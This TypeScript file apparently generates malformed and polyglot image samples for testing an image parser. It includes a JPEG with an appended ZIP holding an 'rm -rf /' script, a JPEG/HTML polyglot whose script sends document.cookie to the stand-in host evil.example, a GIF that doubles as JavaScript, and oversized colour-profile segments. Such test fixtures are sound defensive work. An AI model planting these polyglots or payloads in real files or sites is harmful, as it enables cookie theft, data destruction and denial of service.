import { deflateRawSync } from 'node:zlib';
import type { FaultRandom } from '../fault-random.ts';
import { segment, withSegments } from './chunks.ts';
import { freshJpeg } from './samples.ts';

/** A JPEG with a whole ZIP archive behind it: opens as either. */
export async function jpegAndZip(random: FaultRandom): Promise<Buffer> {
  const jpeg = await freshJpeg(random);
  const name = Buffer.from('evil.sh');
  const packed = deflateRawSync(Buffer.from('#!/bin/sh\nrm -rf /\n'));
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(packed.length, 18);
  local.writeUInt16LE(name.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt32LE(jpeg.length, 42);
  central.writeUInt16LE(name.length, 28);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + name.length, 12);
  end.writeUInt32LE(jpeg.length + local.length + name.length + packed.length, 16);
  return Buffer.concat([jpeg, local, name, packed, central, name, end]);
}

/** A JPEG that is a page with a script, in its comment and behind its end. */
export async function jpegAndHtml(random: FaultRandom): Promise<Buffer> {
  const page = Buffer.from('--><html><script>fetch("//evil.example/"+document.cookie)</script><!--');
  return Buffer.concat([withSegments(await freshJpeg(random), [segment(0xfe, page)]), page]);
}

/** The classic: a GIF of one pixel whose header is a JavaScript variable. */
export function gifAndScript(random: FaultRandom): Buffer {
  const gif = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
  return Buffer.concat([gif, Buffer.from(`*/=1;alert(${random.below(1_000_000)});`)]);
}

/** A colour profile of 100 MB in APP2 segments: 1600 of them, more than their numbers can count. */
export async function hugeProfile(random: FaultRandom): Promise<Buffer> {
  const jpeg = await freshJpeg(random);
  const part = Buffer.alloc(65_519, 0x20);
  const parts = Array.from({ length: 1600 }, (_, index) => {
    const header = Buffer.from(`ICC_PROFILE\0${String.fromCharCode((index % 255) + 1)}\xff`, 'latin1');
    return segment(0xe2, Buffer.concat([header, part]));
  });
  return withSegments(jpeg, parts);
}

/** A colour profile as large as a JPEG can hold: 255 whole parts of zeros, 16.7 MB. */
export async function largestProfile(random: FaultRandom): Promise<Buffer> {
  const part = Buffer.alloc(65_519);
  const parts = Array.from({ length: 255 }, (_, index) => {
    const header = Buffer.from(`ICC_PROFILE\0${String.fromCharCode(index + 1)}\xff`, 'latin1');
    return segment(0xe2, Buffer.concat([header, part]));
  });
  return withSegments(await freshJpeg(random), parts);
}

/** Two more JPEGs behind the first, found by an index (CIPA DC-007) that leads outside of the file. */
export async function multiPicture(random: FaultRandom): Promise<Buffer> {
  const index = Buffer.alloc(8 + 2 + 3 * 12 + 4 + 3 * 16);
  index.write('II*\0', 0, 'latin1');
  index.writeUInt32LE(8, 4);
  index.writeUInt16LE(3, 8);
  [
    [0xb000, 7, 4, 0x30303130],
    [0xb001, 4, 1, 3],
    [0xb002, 7, 48, 50],
  ].forEach(([tag, type, count, value], entry) => {
    index.writeUInt16LE(tag!, 10 + entry * 12);
    index.writeUInt16LE(type!, 12 + entry * 12);
    index.writeUInt32LE(count!, 14 + entry * 12);
    index.writeUInt32LE(value!, 18 + entry * 12);
  });
  for (let entry = 50; entry + 16 <= index.length; entry += 16) {
    index.writeUInt32LE(0xfffffff0, entry + 4);
    index.writeUInt32LE(0xfffffff0, entry + 8);
  }
  const [first, second, third] = [await freshJpeg(random), await freshJpeg(random), await freshJpeg(random)];
  const marked = withSegments(first, [segment(0xe2, Buffer.concat([Buffer.from('MPF\0', 'latin1'), index]))]);
  return Buffer.concat([marked, second, third.subarray(0, third.length / 2)]);
}

/** A JPEG with a film behind it, as phones write a motion photo. */
export async function motionPhoto(film: Buffer, random: FaultRandom): Promise<Buffer> {
  const xmp = `http://ns.adobe.com/xap/1.0/\0<x:xmpmeta><GCamera MotionPhoto="1" MicroVideoOffset="${film.length}"/></x:xmpmeta>`;
  return Buffer.concat([withSegments(await freshJpeg(random), [segment(0xe1, Buffer.from(xmp))]), film]);
}
